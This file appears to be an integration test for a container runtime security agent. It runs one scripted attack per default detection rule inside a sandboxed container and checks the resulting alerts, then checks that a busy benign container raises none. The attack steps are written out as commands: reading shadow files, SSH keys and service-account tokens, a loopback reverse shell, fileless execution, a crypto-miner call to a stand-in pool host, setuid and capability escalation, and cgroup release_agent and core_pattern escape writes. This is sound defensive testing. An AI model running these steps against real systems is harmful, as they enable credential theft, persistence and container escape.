#!/usr/bin/env bash
# agent_attacks_test.sh — real attacks in real containers against `hivesec agent` with the
# default rules (rules/runtime/*.yaml). One long-running container of the `clean` test image
# (Debian 12 + nginx, curl, python3, openssl) receives a scripted attack per default rule through
# `podman exec`; each must produce its rule's alert, with the container's 12-character id, the
# image repository and the expected process chain (proc.name, proc.pname), and the alert line
# must be in the alert file at most 1 s after the event's own time (the file is polled every
# 50 ms). A second, benign but busy container (nginx under a curl load from the host, a
# compile-like job: compileall, shell loops, many file writes) must produce no alert at all.
#
# The attack container runs with --cap-add SYS_ADMIN and seccomp=unconfined, as an attacker's
# target for escapes would: with the default seccomp profile mount/unshare/setns/finit_module
# are refused before the syscall is traced. Attempts that fail (EPERM, EROFS) are still events.
# Not covered by the attacks (sensor limits, documented in docs/runtime/sensor.md): a
# release_agent in a cgroup v1 hierarchy mounted outside /sys/fs/cgroup (seen with --all-writes
# or a --write-prefix for it), and history files outside /root (no default write prefix).
# Needs root, kernel BTF, podman + runc and the `clean` test image; exit 77 otherwise.
set -uo pipefail
source "$(dirname "$0")/lib/common.sh"
require_hivesec

[ "$(id -u)" = 0 ] || skip "the agent needs root"
[ -r /sys/kernel/btf/vmlinux ] || skip "no kernel BTF (/sys/kernel/btf/vmlinux)"
command -v podman >/dev/null && [ -x /usr/sbin/runc ] || skip "needs podman and /usr/sbin/runc"
PY=/usr/bin/python3
[ -x "$PY" ] || skip "needs /usr/bin/python3"
IMG_DIR="$(build_image clean)"
eval "$("$IMAGES" env)"
REF="$(cat "$IMG_DIR/ref.txt")"
REPO="${REF%:*}" # container.image.repository

W="$(mktemp -d /tmp/hivesec-attacks.XXXXXX)"
AGENT_PID=""
SERVICE_PID=""
LOAD_PID=""
ATTACK="hs-attack-$$"
BENIGN="hs-benign-$$"
PODMAN=(podman --runtime /usr/sbin/runc)
cleanup() {
  [ -n "$LOAD_PID" ] && kill "$LOAD_PID" 2>/dev/null
  "${PODMAN[@]}" rm -f -t 0 "$ATTACK" "$BENIGN" >/dev/null 2>&1
  [ -n "$AGENT_PID" ] && kill "$AGENT_PID" 2>/dev/null
  [ -n "$SERVICE_PID" ] && kill "$SERVICE_PID" 2>/dev/null
  wait 2>/dev/null
  rm -rf "$W"
}
trap cleanup EXIT

# ---------- the engine API (container metadata) and the agent ----------
SOCK="$W/engine.sock"
"${PODMAN[@]}" system service --time=0 "unix://$SOCK" >"$W/service.log" 2>&1 &
SERVICE_PID=$!
for _ in $(seq 1 100); do
  curl -sf --unix-socket "$SOCK" http://localhost/_ping >/dev/null 2>&1 && break
  sleep 0.1
done
ALERTS="$W/alerts.jsonl"
: >"$ALERTS"
MPORT=$((20000 + RANDOM % 20000))
DOCKER_HOST="unix://$SOCK" "$HIVESEC" agent -o "file:$ALERTS" --metrics "127.0.0.1:$MPORT" \
  >"$W/agent.out" 2>"$W/agent.err" &
AGENT_PID=$!
started=0
for _ in $(seq 1 150); do
  grep -q "rules loaded" "$W/agent.err" 2>/dev/null && started=1 && break
  kill -0 "$AGENT_PID" 2>/dev/null || break
  sleep 0.1
done
if ((started == 0)); then
  fail "agent starts: $(cat "$W/agent.err")"
  finish
  exit 1
fi
pass "agent starts: $(grep 'rules loaded' "$W/agent.err")"

# ---------- the attack target ----------
CID="$("${PODMAN[@]}" run -d --name "$ATTACK" --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
  --cap-add SYS_ADMIN --security-opt seccomp=unconfined \
  -v "$SOCK:/run/podman/podman.sock" "$REF" sleep infinity)"
if [ -z "$CID" ]; then
  fail "attack container starts"
  finish
  exit 1
fi
CID12="${CID:0:12}"
cx() { "${PODMAN[@]}" exec "$@"; }
# Preparation (not attacks): fake credentials, tools under attacker names, a non-root user.
cx "$ATTACK" sh -c '
  mkdir -p /var/run/secrets/kubernetes.io/serviceaccount /root/.ssh /opt/tools
  echo eyJhbGciOiJSUzI1NiJ9.fake > /var/run/secrets/kubernetes.io/serviceaccount/token
  openssl genpkey -algorithm ed25519 -out /root/.ssh/id_rsa 2>/dev/null
  echo "ls -la" > /root/.bash_history
  for t in xmrig nmap kubectl; do cp /bin/true /opt/tools/$t; done
  cp /usr/bin/python3 /opt/tools/php-fpm
  cp /usr/bin/python3 /opt/tools/suid-helper && chmod 4755 /opt/tools/suid-helper
  echo "shred me" > /tmp/evidence
  touch /var/log/dpkg.log
  cat > /opt/tools/fileless.py <<EOF
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execve(f"/proc/self/fd/{fd}", ["fileless-true"], {})
EOF
' || fail "attack container preparation"
sleep 1.5 # let the preparation's own alerts (writes, drift) pass

# attack RULE PROC PPROC -- COMMAND...: runs COMMAND (podman exec) and waits for the alert.
KNOWN_GAPS=()
attack() {
  local rule="$1" proc="$2" pproc="$3"
  shift 4
  local t0 out
  echo "$rule" >>"$W/tried.txt"
  t0="$(date +%s%N)"
  "$PY" "$LIB/wait_alert.py" "$ALERTS" "$rule" "$t0" "$CID12" "$REPO" "$proc" "$pproc" 5 \
    >"$W/wait.out" 2>&1 &
  local waiter=$!
  "$@" >"$W/attack.out" 2>&1
  wait "$waiter"
  local rc=$?
  out="$(cat "$W/wait.out")"
  if ((rc == 0)); then pass "$rule: $out"; else fail "$rule: $out (attack said: $(head -c 300 "$W/attack.out"))"; fi
}
# gap RULE REASON: a rule this test cannot trigger for a real reason (printed at the end).
gap() {
  KNOWN_GAPS+=("$1: $2")
  echo "$1" >>"$W/tried.txt"
}

# --- execution ---
attack "Terminal shell in container" sh python3 -- \
  cx "$ATTACK" python3 -c 'import pty; pty.spawn(["sh", "-c", "id"])'
attack "Shell spawned by web server" sh php-fpm -- \
  cx "$ATTACK" /opt/tools/php-fpm -c 'import os; os.system("id")'
attack "Executable drift in container" x sh -- \
  cx "$ATTACK" sh -c 'cp /bin/ls /tmp/x && /tmp/x / >/dev/null'
# The kernel names a process exec'd through /proc/self/fd/N "N"; its parent is the shell.
attack "Fileless execution" - sh -- \
  cx "$ATTACK" sh -c 'python3 /opt/tools/fileless.py'
attack "Package manager run in container" apt-get sh -- \
  cx "$ATTACK" sh -c 'apt-get --version >/dev/null'

# --- files ---
attack "Read sensitive file" cat sh -- cx "$ATTACK" sh -c 'cat /etc/shadow >/dev/null'
attack "Read SSH private key" cat sh -- cx "$ATTACK" sh -c 'cat /root/.ssh/id_rsa >/dev/null'
attack "Service account token read by shell or tool" cat sh -- \
  cx "$ATTACK" sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null'
attack "Write below etc" sh - -- cx "$ATTACK" sh -c 'echo "* * * * * root sh" > /etc/cron.hs'
attack "Write below binary dir" cp sh -- cx "$ATTACK" sh -c 'cp /bin/true /usr/bin/hs-implant'
attack "Log file deleted or truncated" sh - -- cx "$ATTACK" sh -c ': > /var/log/dpkg.log'
attack "Secure deletion tool run" shred sh -- cx "$ATTACK" sh -c 'shred -u /tmp/evidence'
attack "Shell history tampering" rm sh -- cx "$ATTACK" sh -c 'rm -f /root/.bash_history'

# --- network ---
attack "Reverse shell" python3 sh -- cx "$ATTACK" sh -c 'python3 -c "
import os, socket, subprocess
srv = socket.socket(); srv.bind((\"127.0.0.1\", 0)); srv.listen(1)
c = socket.create_connection(srv.getsockname()); conn, _ = srv.accept()
for fd in (0, 1, 2): os.dup2(c.fileno(), fd)
subprocess.call([\"/bin/sh\", \"-c\", \"echo pwned\"])
conn.recv(64)"'
attack "Crypto miner started" xmrig sh -- \
  cx "$ATTACK" sh -c '/opt/tools/xmrig -o stratum+tcp://pool.example.com:3333 -u wallet'
attack "Connection to mining pool port" python3 - -- cx "$ATTACK" python3 -c '
import socket
s = socket.socket(); s.settimeout(0.3)
try: s.connect(("203.0.113.7", 3333))
except OSError: pass'
attack "Network scanner run" nmap sh -- cx "$ATTACK" sh -c '/opt/tools/nmap -sS -p 22 10.0.0.0/24'
attack "Download from raw IP address" curl sh -- \
  cx "$ATTACK" sh -c 'curl -s -m 0.3 http://203.0.113.7/x.sh -o /dev/null; true'
attack "Lateral movement tool run in container" kubectl sh -- \
  cx "$ATTACK" sh -c '/opt/tools/kubectl get secrets -A'

# --- privilege escalation and escape ---
attack "Setuid-root program run by non-root user in container" suid-helper sh -- \
  cx -u 65534 "$ATTACK" sh -c '/opt/tools/suid-helper -c "pass"'
attack "Setuid to root by non-root user" suid-helper sh -- \
  cx -u 65534 "$ATTACK" sh -c '/opt/tools/suid-helper -c "import os; os.setuid(0)"'
attack "Capabilities raised by non-root process" suid-helper sh -- \
  cx -u 65534 "$ATTACK" sh -c '/opt/tools/suid-helper -c "
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
hdr = ctypes.create_string_buffer(struct.pack(\"Ii\", 0x20080522, 0), 8)
data = ctypes.create_string_buffer(24)
libc.capget(hdr, data)
eff, perm, inh, eff1, perm1, inh1 = struct.unpack(\"6I\", data.raw)
data = ctypes.create_string_buffer(struct.pack(\"6I\", perm, perm, inh, perm1, perm1, inh1), 24)
print(libc.capset(hdr, data), ctypes.get_errno())"'
attack "Sudo run in container" su sh -- cx "$ATTACK" sh -c 'su -c true root'
attack "Mount in container" mount sh -- \
  cx "$ATTACK" sh -c 'mkdir -p /mnt/hs && mount -t tmpfs hs-escape /mnt/hs; umount /mnt/hs; true'
attack "Namespace change in container" unshare sh -- cx "$ATTACK" sh -c 'unshare -m true'
attack "Write to cgroup release_agent" sh - -- \
  cx "$ATTACK" sh -c 'echo /tmp/payload > /sys/fs/cgroup/release_agent; true'
attack "Write to kernel helper path" sh - -- \
  cx "$ATTACK" sh -c 'echo "|/tmp/payload" > /proc/sys/kernel/core_pattern; true'
attack "Container runtime socket accessed from container" curl - -- \
  cx "$ATTACK" sh -c 'curl -s -m 1 --unix-socket /run/podman/podman.sock http://d/_ping'
# The sensor hooks the tracepoints of the syscalls it traces; a kernel built without module
# support (CONFIG_MODULES=n) has none for finit_module: the call fails with ENOSYS untraced.
TRACEFS_EVENTS=/sys/kernel/tracing/events
[ -d "$TRACEFS_EVENTS" ] || TRACEFS_EVENTS=/sys/kernel/debug/tracing/events
if [ -d "$TRACEFS_EVENTS/syscalls" ] && [ ! -d "$TRACEFS_EVENTS/syscalls/sys_exit_finit_module" ]; then
  gap "Kernel module loaded" "this kernel has no module support (no syscalls/sys_exit_finit_module tracepoint); finit_module fails with ENOSYS, untraced"
else
  attack "Kernel module loaded" python3 sh -- cx "$ATTACK" sh -c 'python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(\"/bin/true\", os.O_RDONLY)
print(libc.syscall(313, fd, b\"\", 0), ctypes.get_errno())"'
fi

# Every default rule must have had an attack here (or be listed as a known gap).
"$PY" - "$HIVESEC_SRC/rules/runtime" "$W/tried.txt" <<'EOF' && pass "every default rule was attacked" || fail "default rules without an attack"
import glob, sys
rules = set()
for f in glob.glob(sys.argv[1] + "/*.yaml"):
    for line in open(f):
        if line.startswith("- rule: "):
            rules.add(line[len("- rule: "):].strip())
tried = set(l.rstrip("\n") for l in open(sys.argv[2]))
missing = sorted(rules - tried)
for r in missing:
    print("  no attack for: " + r)
sys.exit(1 if missing else 0)
EOF

# User names come from the container's own /etc/passwd, also for short-lived commands.
"$PY" - "$ALERTS" "$CID12" <<'EOF' && pass "alerts name the container's users" || fail "alerts with numeric user names"
import json, sys
bad = [l for l in open(sys.argv[1])
       if json.loads(l).get("output_fields", {}).get("container.id") == sys.argv[2]
       and (json.loads(l)["output_fields"].get("user.name") or "x").isdigit()]
for l in bad[:3]:
    print("  numeric user.name: " + l[:300])
sys.exit(1 if bad else 0)
EOF

# The miner attack went through `podman exec ... stratum+tcp://...`: the podman CLI on the host
# carries that URL on its command line too, but only the miner in the container is an alert.
"$PY" - "$ALERTS" <<'EOF' && pass "no host alert for the container CLI that started the miner" || fail "host alert for podman exec"
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1])]
bad = [a for a in alerts if a["rule"] == "Crypto miner started"
       and a.get("output_fields", {}).get("container.id") == "host"]
for a in bad[:3]:
    print("  unexpected: " + json.dumps(a)[:300])
sys.exit(1 if bad else 0)
EOF

# ---------- benign, busy container: nginx under load + a compile-like job ----------
PORT=$((20000 + RANDOM % 20000))
BCID="$("${PODMAN[@]}" run -d --name "$BENIGN" --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
  -p "127.0.0.1:$PORT:80" "$REF" nginx -g 'daemon off;')"
BCID12="${BCID:0:12}"
for _ in $(seq 1 50); do
  curl -s -o /dev/null "http://127.0.0.1:$PORT/" && break
  sleep 0.1
done
T_END=$(($(date +%s) + 5))
(
  n=0
  while (($(date +%s) < T_END)); do
    curl -s -o /dev/null "http://127.0.0.1:$PORT/" && n=$((n + 1))
  done
  echo "$n" >"$W/requests"
) &
LOAD_PID=$!
cx "$BENIGN" sh -c '
  python3 -m compileall -q -f /usr/lib/python3.11 >/dev/null 2>&1
  mkdir -p /tmp/build && cd /tmp/build
  i=0; while [ $i -lt 300 ]; do echo "int f$i(void){return $i;}" > f$i.c; i=$((i+1)); done
  for f in f*.c; do sed "s/int/long/" "$f" > "$f.o"; done
  cat *.o | wc -l > /dev/null; tar cf out.tar *.o; gzip -f out.tar; rm -f f*'
wait "$LOAD_PID"
LOAD_PID=""
HITS="$(curl -s "http://127.0.0.1:$PORT/" -o /dev/null -w '%{http_code}')"
sleep 1.5
"$PY" - "$ALERTS" "$BCID12" <<'EOF' && pass "benign busy container (nginx under load, compile job): no alerts" || fail "benign busy container raised alerts"
import json, sys
bad = [l for l in open(sys.argv[1]) if json.loads(l).get("output_fields", {}).get("container.id") == sys.argv[2]]
for l in bad[:5]:
    print("  unexpected: " + l[:300])
sys.exit(1 if bad else 0)
EOF
REQS="$(cat "$W/requests" 2>/dev/null || echo 0)"
[ "$HITS" = 200 ] && ((REQS > 5)) && pass "benign nginx served $REQS requests in 5 s under the agent" ||
  fail "benign nginx: $REQS requests, last answer $HITS"

# ---------- metrics ----------
curl -s "http://127.0.0.1:$MPORT/metrics" >"$W/metrics.txt"
if grep -q '^hivesec_agent_alerts_total{rule="Reverse shell",priority="Critical"} [1-9]' "$W/metrics.txt" &&
  grep -q '^hivesec_agent_events_total{type="exec"} [1-9]' "$W/metrics.txt"; then
  pass "/metrics counts events and alerts by rule"
else
  fail "/metrics: $(grep -c . "$W/metrics.txt") lines, no exec events or Reverse shell alerts"
fi
DROPS="$(awk '/^hivesec_agent_drops_total/ {s += $2} END {print s + 0}' "$W/metrics.txt")"
((DROPS == 0)) && pass "no events dropped" || fail "$DROPS events dropped"
# AGENT_ATTACKS_KEEP=DIR keeps the alerts and the metrics (for the documentation).
if [ -n "${AGENT_ATTACKS_KEEP:-}" ]; then
  mkdir -p "$AGENT_ATTACKS_KEEP" && cp "$ALERTS" "$W/metrics.txt" "$AGENT_ATTACKS_KEEP/"
fi

# ---------- shutdown ----------
kill -TERM "$AGENT_PID"
wait "$AGENT_PID"
rc=$?
AGENT_PID=""
((rc == 0)) && pass "agent exits 0 on SIGTERM ($(tail -1 "$W/agent.err"))" || fail "agent exit $rc: $(tail -3 "$W/agent.err")"
if ((${#KNOWN_GAPS[@]})); then
  echo "KNOWN GAPS (rules no attack here can trigger):"
  printf '  %s\n' "${KNOWN_GAPS[@]}"
else
  echo "known gaps: none (every default rule fired from a real attack)"
fi
finish
